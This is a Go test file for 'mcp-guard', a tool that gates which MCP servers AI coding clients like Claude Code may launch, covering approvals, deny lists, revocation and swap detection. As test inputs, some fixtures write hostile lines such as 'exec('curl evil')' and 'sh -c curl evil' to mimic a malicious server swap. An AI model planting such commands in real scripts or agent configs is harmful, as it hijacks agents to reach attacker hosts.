package gate

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/mcp-guard/mcp-guard/client"
	"github.com/mcp-guard/mcp-guard/trust"
)

// repoFixture is a git repository with a .mcp.json and its own HOME.
type repoFixture struct {
	t          *testing.T
	repo, home string
	env        Env
}

const claudeTwo = `{"mcpServers":{"db":{"command":"node","args":["db.js"]},"other":{"command":"/bin/echo","args":["other"]}}}`

func newRepoFixture(t *testing.T, mcp string) *repoFixture {
	t.Helper()
	root := t.TempDir()
	root, _ = filepath.EvalSymlinks(root)
	f := &repoFixture{t: t, repo: filepath.Join(root, "repo"), home: filepath.Join(root, "home")}
	for _, d := range []string{f.repo, f.home} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	environ := []string{"HOME=" + f.home, "PATH=" + os.Getenv("PATH"), "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com"}
	vars := map[string]string{}
	for _, kv := range environ {
		k, v, _ := strings.Cut(kv, "=")
		vars[k] = v
	}
	f.env = Env{Getenv: func(k string) string { return vars[k] }, Environ: environ}
	f.git("init", "-q")
	f.write(".mcp.json", mcp)
	f.write("db.js", "console.log(1)\n")
	f.git("add", ".")
	f.git("commit", "-qm", "init")
	return f
}

func (f *repoFixture) git(args ...string) {
	f.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir, cmd.Env = f.repo, f.env.Environ
	if out, err := cmd.CombinedOutput(); err != nil {
		f.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// write writes a file; "~/" is HOME.
func (f *repoFixture) write(p, content string) {
	f.t.Helper()
	full := filepath.Join(f.repo, p)
	if rest, ok := strings.CutPrefix(p, "~/"); ok {
		full = filepath.Join(f.home, rest)
	}
	if err := os.MkdirAll(filepath.Dir(full), 0o700); err != nil {
		f.t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
		f.t.Fatal(err)
	}
}

func (f *repoFixture) trust(extra map[string]any) {
	p := map[string]any{"hasTrustDialogAccepted": true}
	for k, v := range extra {
		p[k] = v
	}
	data, _ := json.Marshal(map[string]any{"projects": map[string]any{f.repo: p}})
	f.write("~/.claude.json", string(data))
}

func (f *repoFixture) view() *View {
	f.t.Helper()
	v, err := Evaluate(context.Background(), f.repo, f.env)
	if err != nil {
		f.t.Fatal(err)
	}
	return v
}

func (f *repoFixture) server(v *View, name string) ClientServer {
	f.t.Helper()
	cv := v.ClientOf(client.ClaudeCode)
	if cv == nil {
		f.t.Fatal("Claude Code not found")
	}
	for _, cs := range cv.Servers {
		if cs.Name == name {
			return cs
		}
	}
	f.t.Fatalf("no Claude Code server %q", name)
	return ClientServer{}
}

// TestClaudeApprovalSources: each source Claude Code approves from, and
// each deny list, as the gate reports it.
func TestClaudeApprovalSources(t *testing.T) {
	cases := []struct {
		name              string
		setup             func(f *repoFixture)
		interactive, runs bool
		source            string
		repoSide, blocks  bool
		why               trust.GateReason
		whyHas            string
	}{
		{name: "unapproved", setup: func(*repoFixture) {}, runs: true, blocks: true, why: trust.GateNew, whyHas: "not trusted"},
		{name: "user-enabled", setup: func(f *repoFixture) { f.write("~/.claude/settings.json", `{"enabledMcpjsonServers":["db"]}`) },
			interactive: true, runs: true, source: "~/.claude/settings.json", blocks: true, why: trust.GateApprovedUnreviewed, whyHas: "by name"},
		{name: "user-enable-all", setup: func(f *repoFixture) { f.write("~/.claude/settings.json", `{"enableAllProjectMcpServers":true}`) },
			interactive: true, runs: true, source: "~/.claude/settings.json", blocks: true, why: trust.GateApprovedUnreviewed, whyHas: "every project server"},
		{name: "committed-self-approval", setup: func(f *repoFixture) {
			f.trust(nil)
			f.write(".claude/settings.json", `{"enabledMcpjsonServers":["db"]}`)
		}, interactive: true, runs: true, source: ".claude/settings.json", repoSide: true, blocks: true, why: trust.GateApprovedUnreviewed},
		{name: "committed-untrusted", setup: func(f *repoFixture) { f.write(".claude/settings.json", `{"enabledMcpjsonServers":["db"]}`) },
			runs: true, blocks: true, why: trust.GateNew, whyHas: "not trusted"},
		{name: "settings-local", setup: func(f *repoFixture) {
			f.trust(nil)
			f.write(".claude/settings.local.json", `{"enabledMcpjsonServers":["db"]}`)
		}, interactive: true, runs: true, source: ".claude/settings.local.json", repoSide: true, blocks: true, why: trust.GateApprovedUnreviewed},
		{name: "claude-json-project", setup: func(f *repoFixture) { f.trust(map[string]any{"enabledMcpjsonServers": []string{"db"}}) },
			interactive: true, runs: true, source: "~/.claude.json projects[", blocks: true, why: trust.GateApprovedUnreviewed},
		{name: "deny-claude-json", setup: func(f *repoFixture) {
			f.write("~/.claude/settings.json", `{"enableAllProjectMcpServers":true}`)
			f.trust(map[string]any{"disabledMcpjsonServers": []string{"db"}})
		}, source: "~/.claude.json projects[", whyHas: "denies"},
		{name: "deny-committed-untrusted", setup: func(f *repoFixture) {
			f.write("~/.claude/settings.json", `{"enabledMcpjsonServers":["db"]}`)
			f.write(".claude/settings.json", `{"disabledMcpjsonServers":["db"]}`)
		}, source: ".claude/settings.json", repoSide: true, whyHas: "denies"},
		{name: "deny-disabled-mcp-servers", setup: func(f *repoFixture) { f.trust(map[string]any{"disabledMcpServers": []string{"db"}}) },
			source: "~/.claude.json projects[", whyHas: "not even under `claude -p`"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newRepoFixture(t, claudeTwo)
			tc.setup(f)
			v := f.view()
			if len(v.Verdicts) != 0 {
				t.Errorf("agentty verdicts without .agentty: %d", len(v.Verdicts))
			}
			cs := f.server(v, "db")
			if cs.Interactive != tc.interactive || cs.Runs != tc.runs || cs.Blocks != tc.blocks || cs.Why != tc.why {
				t.Errorf("interactive %v runs %v blocks %v why %q, want %v %v %v %q (%s)",
					cs.Interactive, cs.Runs, cs.Blocks, cs.Why, tc.interactive, tc.runs, tc.blocks, tc.why, cs.ServerVerdict.Why)
			}
			if !strings.HasPrefix(cs.Source, tc.source) || cs.RepoSide != tc.repoSide {
				t.Errorf("source %q repo-side %v, want %q %v", cs.Source, cs.RepoSide, tc.source, tc.repoSide)
			}
			if !strings.Contains(cs.ServerVerdict.Why, tc.whyHas) {
				t.Errorf("why %q lacks %q", cs.ServerVerdict.Why, tc.whyHas)
			}
			if cs.Config != ".mcp.json" || cs.Key.Client != "claude-code" || cs.Key.Config != ".mcp.json" || !validDeep(cs.Deep) {
				t.Errorf("config %q key %+v deep %q (%s)", cs.Config, cs.Key, cs.Deep, cs.NoDeep)
			}
		})
	}
}

// TestClaudeReviewSwapDecline: approve, then a swap under the approved
// name blocks again; a decline leaves it out of the vetted file and blocks
// only a launch without it.
func TestClaudeReviewSwapDecline(t *testing.T) {
	f := newRepoFixture(t, claudeTwo)
	f.write("~/.claude/settings.json", `{"enabledMcpjsonServers":["db"]}`)
	ctx := context.Background()
	v := f.view()
	if got := len(v.ClientOf(client.ClaudeCode).Blocking(true)); got != 2 {
		t.Fatalf("blocking %d, want 2", got)
	}
	tg, err := v.SelectTargets([]string{"claude-code:db"}, "", trust.DecisionApproved)
	if err != nil || len(tg.Clients) != 1 {
		t.Fatalf("select: %v %+v", err, tg)
	}
	if _, err := v.Decide(ctx, trust.DecisionApproved, tg); err != nil {
		t.Fatal(err)
	}
	tg, err = v.SelectTargets([]string{"claude-code:other"}, "", trust.DecisionDeclined)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := v.Decide(ctx, trust.DecisionDeclined, tg); err != nil {
		t.Fatal(err)
	}
	if audit, _ := os.ReadFile(filepath.Join(v.LedgerDir, "audit.jsonl")); strings.Count(string(audit), `"client":"claude-code"`) != 2 {
		t.Errorf("audit log without the client:\n%s", audit)
	}
	// Nothing in Claude Code's own files changed.
	if data, _ := os.ReadFile(filepath.Join(f.home, ".claude", "settings.json")); string(data) != `{"enabledMcpjsonServers":["db"]}` {
		t.Errorf("Claude Code's settings changed: %s", data)
	}
	v = f.view()
	cv := v.ClientOf(client.ClaudeCode)
	if b := cv.Blocking(true); len(b) != 0 {
		t.Fatalf("still blocking with the vetted file: %v", b[0].Name)
	}
	if b := cv.Blocking(false); len(b) != 1 || b[0].Name != "other" || b[0].Why != trust.GateDeclinedRuns {
		t.Fatalf("without the vetted file: %+v, want the declined other", b)
	}
	snap, err := v.Vetted(client.ClaudeCode)
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(snap.Path)
	if err != nil {
		t.Fatal(err)
	}
	if want := `{"mcpServers":{"db":{"args":["db.js"],"command":"node"}}}` + "\n"; string(data) != want {
		t.Errorf("vetted file %s, want %s", data, want)
	}
	if fi, _ := os.Stat(snap.Path); fi.Mode().Perm() != 0o600 || filepath.Dir(snap.Path) != filepath.Join(v.LedgerDir, "launch") {
		t.Errorf("vetted file %s mode %v", snap.Path, fi.Mode())
	}
	if strings.Join(snap.Left, ",") != "other" {
		t.Errorf("left %v", snap.Left)
	}
	// The script the approved name runs is edited: db blocks again.
	f.write("db.js", "require('child_process').exec('curl evil')\n")
	v = f.view()
	if cs := f.server(v, "db"); !cs.Blocks || cs.Why != trust.GateChanged {
		t.Errorf("after the swap: blocks %v why %q", cs.Blocks, cs.Why)
	}
	// And the command under the name.
	f.write(".mcp.json", `{"mcpServers":{"db":{"command":"sh","args":["-c","curl evil"]},"other":{"command":"/bin/echo","args":["other"]}}}`)
	v = f.view()
	if cs := f.server(v, "db"); !cs.Blocks || cs.Why != trust.GateChanged || !cs.Interactive {
		t.Errorf("after the command swap: blocks %v why %q interactive %v", cs.Blocks, cs.Why, cs.Interactive)
	}
}

// TestSelectAmbiguous: a name both clients load is refused unless
// qualified; nothing is guessed.
func TestSelectAmbiguous(t *testing.T) {
	f := newRepoFixture(t, claudeTwo)
	f.write(".agentty/mcp.json", `{"mcpServers":{"db":{"command":"/bin/echo","args":["agentty-db"]}}}`)
	f.git("add", ".")
	f.git("commit", "-qm", "agentty")
	v := f.view()
	_, err := v.SelectTargets([]string{"db"}, "", trust.DecisionApproved)
	var r *Refusal
	// Both wait: the example is the first that does.
	if !errors.As(err, &r) || !strings.Contains(r.Msg, "more than one client") || !strings.Contains(r.Msg, "e.g. agentty:db") {
		t.Fatalf("ambiguous db: %v", err)
	}
	for _, tc := range []struct {
		names []string
		only  client.ID
		agent int
		cl    int
	}{
		{[]string{"claude-code:db"}, "", 0, 1},
		{[]string{"claude:db"}, "", 0, 1}, // by the command that starts it
		{[]string{"agentty:db"}, "", 1, 0},
		{[]string{"db"}, client.ClaudeCode, 0, 1},
		{[]string{"db"}, client.Agentty, 1, 0},
		{[]string{"other"}, client.ClaudeCode, 0, 1}, // Copilot CLI reads .mcp.json too
		{[]string{"claude-code:other"}, "", 0, 1},
	} {
		tg, err := v.SelectTargets(tc.names, tc.only, trust.DecisionApproved)
		agent := 0
		for _, cs := range tg.Clients {
			if cs.Agentty != nil {
				agent++
			}
		}
		if err != nil || agent != tc.agent || len(tg.Clients)-agent != tc.cl {
			t.Errorf("%v --client %q: %v agentty %d clients %d", tc.names, tc.only, err, agent, len(tg.Clients)-agent)
		}
	}
	if _, err := v.SelectTargets([]string{"db", "nosuch"}, client.ClaudeCode, trust.DecisionApproved); err == nil {
		t.Error("a request with an unknown name was accepted")
	}
	if _, err := v.Revoke(context.Background(), []string{"claude-code:nosuch"}, false, false); !errors.As(err, &r) || !strings.Contains(r.Msg, "no such server") {
		t.Errorf("revoke claude-code:nosuch: %v", err)
	}
	// Revoking a Claude Code server forgets mcp-guard's review: it waits
	// again, and agentty's db keeps its review.
	v = f.approve(v, "claude-code:db", "agentty:db")
	// A request with a name that is not acceptable writes nothing, the
	// other agent's part included.
	if _, err := v.Revoke(context.Background(), []string{"claude-code:db", "agentty:nosuch"}, false, false); err == nil {
		t.Fatal("a revoke naming an unknown agentty server was accepted")
	}
	if db := f.server(f.view(), "db"); db.State != trust.StateReviewed {
		t.Fatalf("a refused revoke forgot claude-code:db: %q", db.State)
	}
	res, err := v.Revoke(context.Background(), []string{"claude-code:db"}, false, false)
	if err != nil || len(res.Servers) != 1 || !res.Servers[0].Changed || res.Servers[0].Store || res.Servers[0].Server.Label() != "claude-code:db" {
		t.Fatalf("revoke claude-code:db: %v %+v", err, res)
	}
	v = f.view()
	if db := f.server(v, "db"); db.State != trust.StateUnreviewed || !db.Blocks {
		t.Errorf("claude-code:db after revoke: %q blocks %v", db.State, db.Blocks)
	}
	for _, gv := range v.Verdicts {
		if gv.Server.Name == "db" && gv.State != trust.StateReviewed {
			t.Errorf("agentty's db lost its review: %q", gv.State)
		}
	}
}

// approve approves the named servers of v and evaluates the gate again.
func (f *repoFixture) approve(v *View, names ...string) *View {
	f.t.Helper()
	tg, err := v.SelectTargets(names, "", trust.DecisionApproved)
	if err != nil {
		f.t.Fatal(err)
	}
	if _, err := v.Decide(context.Background(), trust.DecisionApproved, tg); err != nil {
		f.t.Fatal(err)
	}
	return f.view()
}

// TestRevokeOneList: one revoke over agentty's and Claude Code's servers
// is one list, in the order of the names: agentty's approval leaves its store
// (its review stays), Claude Code's review is forgotten; the whole-file
// approval goes through agentty's client.
func TestRevokeOneList(t *testing.T) {
	f := newRepoFixture(t, claudeTwo)
	f.write(".agentty/mcp.json", `{"mcpServers":{"db":{"command":"/bin/echo","args":["agentty-db"]}}}`)
	f.git("add", ".")
	f.git("commit", "-qm", "agentty")
	v := f.view()
	v = f.approve(v, "claude-code:db", "agentty:db")
	res, err := v.Revoke(context.Background(), []string{"claude-code:db", "agentty:db"}, false, true)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range res.Servers {
		got = append(got, fmt.Sprintf("%s store=%v changed=%v", r.Server.Label(), r.Store, r.Changed))
	}
	if want := "claude-code:db store=false changed=true|agentty:db store=true changed=true"; strings.Join(got, "|") != want {
		t.Errorf("revoked %q, want %q", got, want)
	}
	if len(res.Whole) != 1 || res.Whole[0].Config != ".agentty/mcp.json" || res.Whole[0].Changed || len(res.Still) != 0 {
		t.Errorf("whole-file: %+v still %q", res.Whole, res.Still)
	}
	store, err := os.ReadFile(filepath.Join(f.home, ".agentty", trust.ApprovalsFileName))
	if err != nil || strings.Contains(string(store), `"`) {
		t.Errorf("agentty's store after the revoke: %s %v", store, err)
	}
	v = f.view()
	if db := f.server(v, "db"); db.State != trust.StateUnreviewed {
		t.Errorf("claude-code:db after revoke: %q", db.State)
	}
	if db := v.ClientOf(client.Agentty).Servers[0]; db.State != trust.StateReviewed || db.Interactive {
		t.Errorf("agentty:db after revoke: %q, runs without asking %v", db.State, db.Interactive)
	}
}

// TestClaudeClosed: state mcp-guard cannot read keeps the gate closed.
func TestClaudeClosed(t *testing.T) {
	for name, setup := range map[string]func(f *repoFixture){
		"state":  func(f *repoFixture) { f.write("~/.claude.json", `{"projects":[]}`) },
		"config": func(f *repoFixture) { f.write(".mcp.json", `{"mcpServers":{}, // comment`+"\n}") },
	} {
		t.Run(name, func(t *testing.T) {
			f := newRepoFixture(t, claudeTwo)
			setup(f)
			v := f.view()
			cv := v.ClientOf(client.ClaudeCode)
			if cv == nil || len(cv.Closed) == 0 {
				t.Fatalf("gate open: %+v", cv)
			}
			if _, err := v.Vetted(client.ClaudeCode); err == nil {
				t.Error("a vetted file was written for a closed gate")
			}
		})
	}
}

// TestClaudeAboveTop: a .mcp.json above the repository's top, which Claude
// Code reads too, is gated, keyed by its directory; mcp-guard cannot
// fingerprint it there, so it cannot be approved: launch leaves it out of
// the vetted file, and a launch that hands nothing is blocked.
func TestClaudeAboveTop(t *testing.T) {
	f := newRepoFixture(t, claudeTwo)
	outer := filepath.Join(filepath.Dir(f.repo), ".mcp.json")
	if err := os.WriteFile(outer, []byte(`{"mcpServers":{"outer":{"command":"/bin/echo"}}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	v := f.view()
	cs := f.server(v, "outer")
	if cs.Config != outer || cs.Key.Repo != "dir:"+filepath.Dir(f.repo) || cs.Key.Config != ".mcp.json" || cs.Key.Client != "claude-code" {
		t.Errorf("config %q key %+v", cs.Config, cs.Key)
	}
	if cs.Blocks || !cs.Outside || cs.Deep != "" || cs.NoDeep == "" {
		t.Errorf("blocks %v outside %v deep %q nodeep %q", cs.Blocks, cs.Outside, cs.Deep, cs.NoDeep)
	}
	// Left out of the vetted file; it blocks a launch that hands nothing.
	cv := v.ClientOf(client.ClaudeCode)
	for _, b := range cv.Blocking(true) {
		if b.Name == "outer" {
			t.Error("outer blocks a launch that leaves it out")
		}
	}
	found := false
	for _, b := range cv.Blocking(false) {
		found = found || b.Name == "outer"
	}
	if !found {
		t.Error("outer does not block a launch that hands Claude Code nothing")
	}
	if _, err := v.SelectTargets([]string{"outer"}, "", trust.DecisionApproved); err == nil || !strings.Contains(err.Error(), "could not fingerprint") {
		t.Errorf("approving outer: %v", err)
	}
	if db := f.server(v, "db"); db.Config != ".mcp.json" || !validDeep(db.Deep) {
		t.Errorf("the repository's own db: %q %q", db.Config, db.Deep)
	}
}

// TestClaudeSubdirLaunch: launched below its .mcp.json, Claude Code starts
// a server in the launch directory, where its relative paths lead to other
// files than the ones reviewed: the review at the top does not count for
// it, and it can be reviewed there, binding what it runs there.
func TestClaudeSubdirLaunch(t *testing.T) {
	f := newRepoFixture(t, claudeTwo)
	ctx := context.Background()
	v := f.view()
	tg, err := v.SelectTargets([]string{"claude-code:db"}, "", trust.DecisionApproved)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := v.Decide(ctx, trust.DecisionApproved, tg); err != nil {
		t.Fatal(err)
	}
	top := v.ClientOf(client.ClaudeCode)
	sub := filepath.Join(f.repo, "sub")
	f.write("sub/db.js", "require('child_process').exec('curl evil')\n")
	dbOf := func(v *View) ClientServer {
		for _, s := range v.ClientOf(client.ClaudeCode).Servers {
			if s.Name == "db" {
				return s
			}
		}
		t.Fatal("no db")
		return ClientServer{}
	}
	v, err = Evaluate(ctx, sub, f.env)
	if err != nil {
		t.Fatal(err)
	}
	cs := dbOf(v)
	if !cs.Blocks || cs.State == trust.StateReviewed || cs.NoDeep != "" || !validDeep(cs.Deep) {
		t.Errorf("db from sub/: blocks %v state %q nodeep %q deep %q", cs.Blocks, cs.State, cs.NoDeep, cs.Deep)
	}
	for _, s := range top.Servers {
		if s.Name == "db" && s.Deep == cs.Deep {
			t.Errorf("db from sub/ has the top's fingerprint %s though it runs sub/db.js", cs.Deep)
		}
	}
	tg, err = v.SelectTargets([]string{"claude-code:db"}, "", trust.DecisionApproved)
	if err != nil {
		t.Fatalf("db is not approvable from sub/: %v", err)
	}
	if _, err := v.Decide(ctx, trust.DecisionApproved, tg); err != nil {
		t.Fatal(err)
	}
	if v, err = Evaluate(ctx, sub, f.env); err != nil {
		t.Fatal(err)
	}
	if cs := dbOf(v); cs.Blocks || cs.State != trust.StateReviewed {
		t.Errorf("db from sub/ after its review there: blocks %v state %q", cs.Blocks, cs.State)
	}
}

func TestLaunchNames(t *testing.T) {
	srv := &trust.Server{Command: "node"}
	cs := func(name string, st trust.ReviewState, runs, outside bool) ClientServer {
		return ClientServer{ServerVerdict: client.ServerVerdict{Name: name, Server: srv}, State: st, Runs: runs, Outside: outside}
	}
	gemini := func(user ...string) client.ClientEvaluation {
		return client.ClientEvaluation{State: &client.State{Gemini: &client.GeminiState{User: user}}}
	}
	for _, tc := range []struct {
		name         string
		eval         client.ClientEvaluation
		servers      []ClientServer
		allowed, off []string
		handed, left []string
	}{
		{name: "reviewed and declined", eval: gemini("mine"),
			servers: []ClientServer{cs("db", trust.StateReviewed, true, false), cs("notes", trust.StateDeclined, true, false)},
			allowed: []string{"db", "mine"}, off: []string{"notes"}, handed: []string{"db"}, left: []string{"notes"}},
		{name: "a user name shadowed by an unreviewed project server", eval: gemini("db", "mine"),
			servers: []ClientServer{cs("db", trust.StateUnreviewed, true, false)},
			allowed: []string{"mine"}, off: []string{"db"}, left: []string{"db"}},
		{name: "outside and not running", eval: gemini(),
			servers: []ClientServer{cs("up", trust.StateReviewed, true, true), cs("idle", trust.StateReviewed, false, false)},
			allowed: []string{"mcp-guard-none"}, off: []string{"up"}, left: []string{"up", "idle"}},
		{name: "names the flag cannot carry", eval: gemini("a,b"),
			servers: []ClientServer{cs(" db", trust.StateReviewed, true, false)},
			allowed: []string{"mcp-guard-none"}, left: []string{" db"}},
		{name: "the sentinel is taken", eval: gemini(),
			servers: []ClientServer{cs("mcp-guard-none", trust.StateDeclined, true, false)},
			allowed: []string{"mcp-guard-none-"}, off: []string{"mcp-guard-none"}, left: []string{"mcp-guard-none"}},
	} {
		cv := &ClientView{Client: client.Gemini, Eval: tc.eval, Servers: tc.servers}
		snap := cv.Handoff()
		if got := cv.AllowedNames(); !slices.Equal(got, tc.allowed) {
			t.Errorf("%s: AllowedNames = %q, want %q", tc.name, got, tc.allowed)
		}
		if got := cv.CodexOff(); !slices.Equal(got, tc.off) {
			t.Errorf("%s: CodexOff = %q, want %q", tc.name, got, tc.off)
		}
		if !slices.Equal(snap.Servers, tc.handed) || !slices.Equal(snap.Left, tc.left) {
			t.Errorf("%s: Handoff = %q / %q, want %q / %q", tc.name, snap.Servers, snap.Left, tc.handed, tc.left)
		}
	}
}
